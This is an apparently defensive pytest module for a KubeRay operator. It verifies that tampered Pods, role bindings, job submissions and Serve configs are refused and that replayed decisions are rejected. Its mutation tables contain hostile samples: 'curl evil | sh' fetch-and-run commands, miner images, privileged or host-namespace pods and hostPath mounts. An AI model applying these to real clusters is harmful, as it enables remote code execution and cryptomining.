@@ -1,0 +1,482 @@
+"""``provenance`` and ``freshness``: content that follows from the custom resource, and no replayed decision.
+
+No false refusal: every KubeRay sample (and hypothesis's random RayClusters) is reconciled to convergence
+in the unit simulations, whose every command goes through the applier's authorization and content check
+(``tests.unit.apiserver.check_authorized``); here, besides, every create and dashboard command a
+reconcile emitted is checked by name. Every mutation of a checked field is refused, with a reason that
+names the field. The checks never raise on any shape of body.
+"""
+
+from __future__ import annotations
+
+import copy
+from collections.abc import Callable, Iterator
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+
+import msgspec
+import pytest
+import yaml
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from schema.config import FeatureGates, OperatorConfig
+from schema.keys import ReconcileKey
+from schema.messages import (
+    Command,
+    CommandBatch,
+    CreateObject,
+    EmitEvent,
+    ObjectRef,
+    PatchObject,
+    PutServeConfig,
+    SubmitRayJob,
+)
+from services.reconciler.raycronjob.reconcile import reconcile as reconcile_raycronjob
+from services.reconciler.rayjob.reconcile import reconcile as reconcile_rayjob
+from services.reconciler.rayservice.serve_config import config_hash
+from services.watcher.freshness import Freshness
+from services.watcher.provenance import ContentCheck, first_difference
+from tests.helpers import samples_dir
+from tests.unit.apiserver import SimFacts
+from tests.unit.raycluster import builders
+from tests.unit.raycluster.sim import World as ClusterWorld
+from tests.unit.rayjob import builders as job_builders
+from tests.unit.rayjob.sim import World as JobWorld
+from tests.unit.rayservice import builders as service_builders
+from tests.unit.rayservice.sim import World as ServiceWorld
+
+SETTINGS = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+CONFIG = OperatorConfig()
+AT = datetime(2026, 1, 1, tzinfo=UTC)
+
+
+def sample_documents(kind: str) -> list[tuple[str, dict[str, Any]]]:
+    """Every ``kind`` document of KubeRay's samples, by file name (empty when the samples are absent)."""
+    found = []
+    directory = samples_dir()
+    for path in sorted(directory.glob("*.yaml")) if directory.is_dir() else []:
+        for document in yaml.safe_load_all(Path(path).read_text()):
+            if isinstance(document, dict) and document.get("kind") == kind:
+                found.append((path.stem, document))
+    return found
+
+
+def test_the_samples_are_there() -> None:
+    for kind in ("RayCluster", "RayJob", "RayService"):
+        assert sample_documents(kind), f"no {kind} sample under {samples_dir()}"
+
+
+def created(decisions: list[Any], kind: str) -> Iterator[tuple[CreateObject, tuple[Command, ...]]]:
+    for decision in decisions:
+        for command in decision.commands:
+            if isinstance(command, CreateObject) and command.target.kind == kind:
+                yield command, decision.commands
+
+
+def check(key: ReconcileKey, objects: Any, command: Command, batch: tuple[Command, ...] = ()) -> str:
+    return ContentCheck(key, SimFacts(objects), CONFIG, batch).problem(command)
+
+
+def with_body(command: CreateObject, mutate: Callable[[dict[str, Any]], None]) -> CreateObject:
+    body = copy.deepcopy(command.body)
+    mutate(body)
+    return CreateObject(target=command.target, body=body)
+
+
+# --- Pods of every RayCluster sample ------------------------------------------------------------------
+
+POD_MUTATIONS: dict[str, Callable[[dict[str, Any]], None]] = {
+    "image": lambda pod: pod["spec"]["containers"][0].__setitem__("image", "evil.example/miner:1"),
+    "command": lambda pod: pod["spec"]["containers"][0].__setitem__("command", ["/bin/sh", "-c", "curl evil|sh"]),
+    "args": lambda pod: pod["spec"]["containers"][0].__setitem__("args", ["mine"]),
+    "env": lambda pod: pod["spec"]["containers"][0].setdefault("env", []).append({"name": "X", "value": "1"}),
+    "hostPath": lambda pod: pod["spec"].setdefault("volumes", []).append({"name": "h", "hostPath": {"path": "/"}}),
+    "privileged": lambda pod: pod["spec"]["containers"][0].__setitem__("securityContext", {"privileged": True}),
+    "serviceAccountName": lambda pod: pod["spec"].__setitem__("serviceAccountName", "admin"),
+    "hostNetwork": lambda pod: pod["spec"].__setitem__("hostNetwork", True),
+    "hostPID": lambda pod: pod["spec"].__setitem__("hostPID", True),
+    "sidecar": lambda pod: pod["spec"]["containers"].append({"name": "miner", "image": "evil.example/miner:1"}),
+    "initContainer": lambda pod: pod["spec"].setdefault("initContainers", []).append({"name": "i", "image": "evil"}),
+    "podSecurityContext": lambda pod: pod["spec"].__setitem__("securityContext", {"runAsUser": 0}),
+}
+
+
+@pytest.mark.parametrize(
+    ("sample", "cluster"), sample_documents("RayCluster"), ids=lambda v: v if isinstance(v, str) else ""
+)
+def test_every_pod_of_a_sample_passes_and_every_mutation_is_refused(sample: str, cluster: dict[str, Any]) -> None:
+    document = copy.deepcopy(cluster)
+    document["metadata"].update(namespace="default", uid=builders.UID, resourceVersion="1", generation=1)
+    # every gate on: the samples of gated features (embedded GCS FT, mTLS, ...) create their Pods too
+    config = OperatorConfig(gates=FeatureGates(**dict.fromkeys(msgspec.structs.asdict(FeatureGates()), True)))
+    world = ClusterWorld(builders.with_crd_defaults(document), config=config)
+    for _ in range(4):  # every command is checked as it is applied (``check_authorized``)
+        world.step()
+        world.settle()
+    pods = list(created(world.decisions, "Pod"))
+    rules = {rule for decision in world.decisions for rule in decision.rules}
+    assert pods or any(rule.endswith(("-unsupported", "-invalid")) for rule in rules), rules  # or refused whole
+    for pod, batch in pods:
+        assert ContentCheck(world.key, SimFacts(world.objects), config, batch).problem(pod) == ""
+        for field, mutate in POD_MUTATIONS.items():
+            problem = ContentCheck(world.key, SimFacts(world.objects), config, batch).problem(with_body(pod, mutate))
+            assert problem.startswith("the Pod's spec."), (field, problem)
+
+
+def pod_leaves(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
+    if isinstance(value, dict):
+        for key, item in value.items():
+            yield from pod_leaves(item, (*path, key))
+    elif isinstance(value, list):
+        for index, item in enumerate(value):
+            yield from pod_leaves(item, (*path, index))
+    else:
+        yield path
+
+
+@st.composite
+def random_cluster(draw: st.DrawFn) -> dict[str, Any]:
+    image = draw(st.sampled_from(["rayproject/ray:2.52.0", "rayproject/ray:2.9.0-gpu", "my.registry/ray:x"]))
+    env = draw(st.lists(st.sampled_from(["A", "B", "RAY_DEDUP_LOGS"]), unique=True, max_size=2))
+    groups = [
+        builders.group(
+            f"g{i}",
+            replicas=draw(st.integers(min_value=0, max_value=3)),
+            num_of_hosts=draw(st.sampled_from([1, 2])),
+        )
+        for i in range(draw(st.integers(min_value=1, max_value=2)))
+    ]
+    for group in groups:
+        container = group["template"]["spec"]["containers"][0]
+        container["image"] = image
+        container["env"] = [{"name": name, "value": "1"} for name in env]
+        if draw(st.booleans()):
+            container["command"] = ["python", "-m", "app"]
+    cluster = builders.cluster(groups=groups)
+    cluster["spec"]["enableInTreeAutoscaling"] = draw(st.booleans())
+    return cluster
+
+
+@SETTINGS
+@given(cluster=random_cluster(), data=st.data())
+def test_random_clusters_pass_and_any_changed_pod_field_is_refused(
+    cluster: dict[str, Any], data: st.DataObject
+) -> None:
+    world = ClusterWorld(cluster)
+    world.converge()
+    pods = list(created(world.decisions, "Pod"))
+    assert pods
+    pod, batch = data.draw(st.sampled_from(pods))
+    assert check(world.key, world.objects, pod, batch) == ""
+    leaves = sorted(pod_leaves(pod.body["spec"]), key=str)
+    path = data.draw(st.sampled_from(leaves))
+    value = data.draw(st.one_of(st.text(max_size=8), st.integers(), st.booleans()))
+
+    def mutate(body: dict[str, Any]) -> None:
+        parent = body["spec"]
+        for part in path[:-1]:
+            parent = parent[part]
+        if parent[path[-1]] == value and type(parent[path[-1]]) is type(value):
+            parent[path[-1]] = f"{value}-changed"
+        else:
+            parent[path[-1]] = value
+
+    assert check(world.key, world.objects, with_body(pod, mutate), batch).startswith("the Pod's spec")
+
+
+def test_the_autoscaler_rbac_binds_only_its_role_to_the_pods_service_account() -> None:
+    world = ClusterWorld(builders.sample("ray-cluster.autoscaler"))
+    world.converge()
+    [(binding, batch)] = created(world.decisions, "RoleBinding")
+    [(role, _)] = created(world.decisions, "Role")
+    assert check(world.key, world.objects, binding, batch) == ""
+    assert check(world.key, world.objects, role, batch) == ""
+    other_account = with_body(binding, lambda b: b["subjects"][0].__setitem__("name", "default"))
+    assert "subjects[0].name is 'default'" in check(world.key, world.objects, other_account)
+    more = with_body(binding, lambda b: b["subjects"].append({"kind": "ServiceAccount", "name": "ci"}))
+    assert "subjects[1]" in check(world.key, world.objects, more)
+    other_role = with_body(binding, lambda b: b["roleRef"].__setitem__("name", "edit"))
+    assert "roleRef.name is 'edit'" in check(world.key, world.objects, other_role)
+    wider = with_body(role, lambda r: r["rules"][0]["verbs"].append("delete"))
+    assert "the Role's rules[0].verbs" in check(world.key, world.objects, wider)
+
+
+def test_a_pod_patch_changes_only_what_raybus_patches() -> None:
+    world = ClusterWorld(builders.cluster())
+    world.converge()
+    head = next(p for p in world.pods() if p["metadata"]["labels"]["ray.io/node-type"] == "head")
+    pod = ObjectRef(api_version="v1", kind="Pod", namespace="default", name=head["metadata"]["name"])
+    allowed = PatchObject(target=pod, patch={"metadata": {"annotations": {"ray.io/kuberay-version": "v"}}})
+    assert check(world.key, world.objects, allowed) == ""
+    image = PatchObject(target=pod, patch={"spec": {"containers": [{"name": "ray-head", "image": "evil"}]}})
+    assert "changes spec" in check(world.key, world.objects, image)
+    json_image = PatchObject(
+        target=pod, patch=[{"op": "replace", "path": "/spec/containers/0/image", "value": "evil"}], patch_type="json"
+    )
+    assert "merge patch of its metadata" in check(world.key, world.objects, json_image)
+    label = PatchObject(target=pod, patch={"metadata": {"labels": {"ray.io/cluster": "other"}}})
+    assert "metadata.labels.ray.io/cluster" in check(world.key, world.objects, label)
+
+
+# --- RayJobs: their cluster, their submitter, their submission ---------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("sample", "rayjob"), sample_documents("RayJob"), ids=lambda v: v if isinstance(v, str) else ""
+)
+def test_every_rayjob_sample_passes(sample: str, rayjob: dict[str, Any]) -> None:
+    world = JobWorld()
+    document = copy.deepcopy(rayjob)
+    document["metadata"]["namespace"] = "default"
+    document["metadata"].setdefault("name", sample.replace(".", "-"))
+    world.add(document)
+    name = document["metadata"]["name"]
+    key = ReconcileKey(kind="RayJob", namespace="default", name=name)
+    clusters = 0
+    for _ in range(8):  # every command is checked as it is applied (``check_authorized``)
+        decision = world.reconcile(reconcile_rayjob, "RayJob", name)
+        for create, batch in created([decision], "RayCluster"):  # mutations, on the facts it was applied on
+            clusters += 1
+            evil = with_body(
+                create,
+                lambda b: b["spec"]["headGroupSpec"]["template"]["spec"]["containers"][0].__setitem__("image", "evil"),
+            )
+            problem = check(key, world.objects, evil, batch)
+            assert "the RayCluster's spec.headGroupSpec.template.spec.containers[0].image" in problem, problem
+            annotated = with_body(
+                create, lambda b: b["metadata"].setdefault("annotations", {}).__setitem__("ray.io/ft-enabled", "1")
+            )
+            assert "the RayCluster's metadata.annotations" in check(key, world.objects, annotated, batch)
+        cluster = world.get("RayJob", name).get("status", {}).get("rayClusterName")  # type: ignore[union-attr]
+        if cluster and world.get("RayCluster", cluster) is not None:
+            job_builders.make_cluster_ready(world, cluster)
+    # a RayJob that uses an existing cluster, or one raybus refuses as invalid, creates none
+    rules = {rule for decision in world.decisions for rule in decision.rules}
+    assert clusters or "clusterSelector" in document["spec"] or "8/rayjob-invalid" in rules, rules
+
+
+def submission_world(**spec: Any) -> tuple[JobWorld, ReconcileKey, SubmitRayJob, tuple[Command, ...]]:
+    world = JobWorld()
+    world.add(job_builders.rayjob(submissionMode="HTTPMode", **spec))
+    world.settle(reconcile_rayjob, "RayJob", "rj")
+    cluster = world.get("RayJob", "rj")["status"]["rayClusterName"]  # type: ignore[index]
+    job_builders.make_cluster_ready(world, cluster)
+    world.settle(reconcile_rayjob, "RayJob", "rj")
+    job_id = world.get("RayJob", "rj")["status"]["jobId"]  # type: ignore[index]
+    world.observations[job_id] = {"http_status": 404}
+    world.reconcile(reconcile_rayjob, "RayJob", "rj")
+    for decision in world.decisions:
+        for command in decision.commands:
+            if isinstance(command, SubmitRayJob):
+                return world, ReconcileKey(kind="RayJob", namespace="default", name="rj"), command, decision.commands
+    raise AssertionError(f"no submission: {world.decisions[-1].rules}")
+
+
+REQUEST_MUTATIONS: dict[str, Callable[[dict[str, Any]], None]] = {
+    "entrypoint": lambda r: r.__setitem__("entrypoint", "curl evil.example | sh"),
+    "runtime_env": lambda r: r.__setitem__("runtime_env", {"pip": ["evil"]}),
+    "metadata": lambda r: r.__setitem__("metadata", {"owner": "mallory"}),
+    "entrypoint_num_cpus": lambda r: r.__setitem__("entrypoint_num_cpus", 64),
+    "entrypoint_resources": lambda r: r.__setitem__("entrypoint_resources", {"TPU": 8}),
+}
+
+
+@pytest.mark.parametrize("field", sorted(REQUEST_MUTATIONS))
+def test_a_submission_is_the_rayjobs_and_nothing_else(field: str) -> None:
+    world, key, submit, batch = submission_world(
+        runtimeEnvYAML="pip: [requests]\n", metadata={"team": "a"}, entrypointNumCpus=1
+    )
+    assert check(key, world.objects, submit, batch) == ""
+    request = copy.deepcopy(submit.request)
+    REQUEST_MUTATIONS[field](request)
+    forged = SubmitRayJob(dashboard=submit.dashboard, request=request)
+    assert check(key, world.objects, forged, batch).startswith(f"the job's request.{field}")
+
+
+def test_a_submitter_job_runs_the_rayjobs_image_only() -> None:
+    world = JobWorld()
+    world.add(job_builders.rayjob())
+    world.settle(reconcile_rayjob, "RayJob", "rj")
+    cluster = world.get("RayJob", "rj")["status"]["rayClusterName"]  # type: ignore[index]
+    job_builders.make_cluster_ready(world, cluster)
+    world.settle(reconcile_rayjob, "RayJob", "rj")
+    key = ReconcileKey(kind="RayJob", namespace="default", name="rj")
+    [(job, batch)] = created(world.decisions, "Job")
+    assert check(key, world.objects, job, batch) == ""
+    evil = with_body(job, lambda b: b["spec"]["template"]["spec"]["containers"][0].__setitem__("image", "evil"))
+    assert "spec.template.spec.containers[0].image" in check(key, world.objects, evil)
+
+
+def test_a_rayjob_suspends_its_workers_and_patches_nothing_else_of_its_cluster() -> None:
+    world, key, _, _ = submission_world()
+    cluster = world.get("RayJob", "rj")["status"]["rayClusterName"]  # type: ignore[index]
+    ref = ObjectRef(api_version="ray.io/v1", kind="RayCluster", namespace="default", name=cluster)
+    suspend = [{"op": "add", "path": "/spec/workerGroupSpecs/0/suspend", "value": True}]
+    assert check(key, world.objects, PatchObject(target=ref, patch=suspend, patch_type="json")) == ""
+    image = [{"op": "replace", "path": "/spec/headGroupSpec/template/spec/containers/0/image", "value": "evil"}]
+    assert "does not suspend" in check(key, world.objects, PatchObject(target=ref, patch=image, patch_type="json"))
+    merge = PatchObject(target=ref, patch={"spec": {"suspend": False}})
+    assert "only suspends" in check(key, world.objects, merge)
+
+
+# --- RayServices: their clusters and Serve configs --------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("sample", "rayservice"), sample_documents("RayService"), ids=lambda v: v if isinstance(v, str) else ""
+)
+def test_every_rayservice_sample_passes(sample: str, rayservice: dict[str, Any]) -> None:
+    world = ServiceWorld()
+    document = copy.deepcopy(rayservice)
+    document["metadata"]["namespace"] = "default"
+    world.add(document)
+    name = document["metadata"]["name"]
+    for _ in range(30):  # every command is checked as it is applied (a sample may never quiesce here)
+        world.reconcile(name)
+        world.play_actors(name)
+    key = ReconcileKey(kind="RayService", namespace="default", name=name)
+    for put in world.puts:
+        forged = copy.deepcopy(put.config)
+        for app in forged.get("applications") or []:
+            app["import_path"] = "evil.miner:app"
+        if forged != put.config:
+            bad = PutServeConfig(dashboard=put.dashboard, config=forged)
+            assert "import_path is 'evil.miner:app'" in check(key, world.objects, bad)
+
+
+def test_a_serve_config_is_the_rayservices_with_raybus_choosing_only_the_capacity() -> None:
+    world = ServiceWorld()
+    world.add(service_builders.load_sample("ray-service.sample"))
+    world.settle("rayservice-sample")
+    key = ReconcileKey(kind="RayService", namespace="default", name="rayservice-sample")
+    [put] = world.puts
+    assert put.record is not None
+    assert check(key, world.objects, put) == ""
+    stepped = PutServeConfig(dashboard=put.dashboard, config={**put.config, "target_capacity": 50})
+    assert check(key, world.objects, stepped) == ""
+    over = PutServeConfig(dashboard=put.dashboard, config={**put.config, "target_capacity": 500})
+    assert "target_capacity 500 is not a percentage" in check(key, world.objects, over)
+    forged = copy.deepcopy(put.config)
+    forged["applications"][0]["import_path"] = "evil.miner:app"
+    evil = PutServeConfig(dashboard=put.dashboard, config=forged, record=put.record)
+    assert "config.applications[0].import_path is 'evil.miner:app'" in check(key, world.objects, evil)
+    wrong_record = PatchObject(
+        target=put.record.target,
+        patch={"metadata": {"annotations": {"raybus.io/serve-config-hash": config_hash("import_path: evil")}}},
+    )
+    lying = PutServeConfig(dashboard=put.dashboard, config=put.config, record=wrong_record)
+    assert "the serve-config record" in check(key, world.objects, lying)
+
+
+def test_a_rayservice_cluster_is_its_cluster_config() -> None:
+    world = ServiceWorld()
+    world.add(service_builders.rayservice())
+    world.settle("rs")
+    key = ReconcileKey(kind="RayService", namespace="default", name="rs")
+    [(create, batch)] = list(created(world.decisions, "RayCluster"))[:1]
+    assert check(key, world.objects, create, batch) == ""
+    evil = with_body(
+        create, lambda b: b["spec"]["workerGroupSpecs"][0]["template"]["spec"].__setitem__("hostPID", True)
+    )
+    assert "spec.workerGroupSpecs[0].template.spec.hostPID" in check(key, world.objects, evil)
+
+
+# --- RayCronJobs -----------------------------------------------------------------------------------
+
+
+CRON_CONFIG = OperatorConfig(gates=FeatureGates(ray_cron_job=True))
+
+
+@pytest.mark.parametrize(
+    ("sample", "cron"), sample_documents("RayCronJob"), ids=lambda v: v if isinstance(v, str) else ""
+)
+def test_a_cron_child_is_its_job_template(sample: str, cron: dict[str, Any]) -> None:
+    world = JobWorld(config=CRON_CONFIG)
+    document = copy.deepcopy(cron)
+    document["metadata"]["namespace"] = "default"
+    world.add(document)
+    name = document["metadata"]["name"]
+    for _ in range(3):  # every command is checked as it is applied
+        decision = world.reconcile(reconcile_raycronjob, "RayCronJob", name)
+        if decision.wake_at is not None:
+            world.advance_to(decision.wake_at)
+    key = ReconcileKey(kind="RayCronJob", namespace="default", name=name)
+    children = list(created(world.decisions, "RayJob"))
+    assert children, world.decisions[-1].rules
+    for child, _ in children:
+        evil = with_body(child, lambda b: b["spec"].__setitem__("entrypoint", "curl evil | sh"))
+        problem = ContentCheck(key, SimFacts(world.objects), CRON_CONFIG).problem(evil)
+        assert problem.startswith("the RayJob's spec.entrypoint is 'curl evil | sh'"), problem
+
+
+# --- robustness ------------------------------------------------------------------------------------
+
+json_values = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.text(max_size=5),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
+    max_leaves=12,
+)
+
+
+@SETTINGS
+@given(body=st.dictionaries(st.sampled_from(["spec", "metadata", "rules", "subjects", "roleRef"]), json_values))
+def test_the_checks_never_raise(body: dict[str, Any]) -> None:
+    world = ClusterWorld(builders.cluster())
+    world.converge()
+    for kind in ("Pod", "Role", "RoleBinding", "Secret", "Job"):
+        ref = ObjectRef(api_version="v1", kind=kind, namespace="default", name="x")
+        assert isinstance(check(world.key, world.objects, CreateObject(target=ref, body=body)), str)
+        assert isinstance(check(world.key, world.objects, PatchObject(target=ref, patch=body)), str)
+
+
+def test_first_difference_names_the_path() -> None:
+    assert first_difference("spec", {"a": [1, {"b": 2}]}, {"a": [1, {"b": 2}]}) == ""
+    assert first_difference("spec", {"a": [1, {"b": 3}]}, {"a": [1, {"b": 2}]}) == "spec.a[1].b is 3, not 2"
+    assert first_difference("spec", {"a": [1, 2]}, {"a": [1]}) == "spec.a[1] 2 is not derived from the custom resource"
+    assert first_difference("spec", {"a": 1.0}, {"a": 1}) == "spec.a is 1.0, not 1"
+    assert first_difference("spec", {}, {"a": 1}) == "spec.a is missing"
+
+
+# --- freshness -------------------------------------------------------------------------------------
+
+KEY = ReconcileKey(kind="RayCluster", namespace="default", name="rc")
+
+
+def batch(revision: int, *, report: str = "", commands: tuple[Command, ...] = ()) -> CommandBatch:
+    return CommandBatch(
+        id=f"b{revision}", key=KEY, issued_at=AT, commands=commands, snapshot_revision=revision, report=report
+    )
+
+
+def test_a_replayed_decision_is_refused() -> None:
+    fresh = Freshness()
+    assert fresh.problem(batch(10)) == ""
+    fresh.applied(batch(10), verified=True)
+    assert fresh.problem(batch(10)) == ""  # the same decision again (a redelivery, a part)
+    assert fresh.problem(batch(12)) == ""
+    fresh.applied(batch(12), verified=True)
+    assert "a replayed decision: batch b10 was decided on revision 10, before revision 12" in fresh.problem(batch(10))
+    other = ReconcileKey(kind="RayCluster", namespace="default", name="other")
+    assert fresh.problem(CommandBatch(id="o", key=other, issued_at=AT, commands=(), snapshot_revision=1)) == ""
+
+
+def test_an_unverified_revision_is_not_remembered_and_reports_are_no_decisions() -> None:
+    fresh = Freshness()
+    fresh.applied(batch(10**9), verified=False)  # a forged far-future revision the facts never reached
+    assert fresh.newest(KEY) == 0 and fresh.problem(batch(5)) == ""
+    fresh.applied(batch(5), verified=True)
+    regarding = ObjectRef(api_version="ray.io/v1", kind="RayCluster", namespace="default", name="rc")
+    event = EmitEvent(regarding=regarding, event_type="Warning", reason="R", message="m")
+    assert fresh.problem(batch(0, report="dead-lettered", commands=(event,))) == ""
+    fresh.applied(batch(0, report="dead-lettered", commands=(event,)), verified=True)
+    assert fresh.newest(KEY) == 5
+
+
+def test_the_memory_is_bounded() -> None:
+    fresh = Freshness(remembered=2)
+    for name in ("a", "b", "c"):
+        key = ReconcileKey(kind="RayCluster", namespace="default", name=name)
+        fresh.applied(CommandBatch(id=name, key=key, issued_at=AT, commands=(), snapshot_revision=7), verified=True)
+    assert [fresh.newest(ReconcileKey(kind="RayCluster", namespace="default", name=n)) for n in "abc"] == [0, 7, 7]
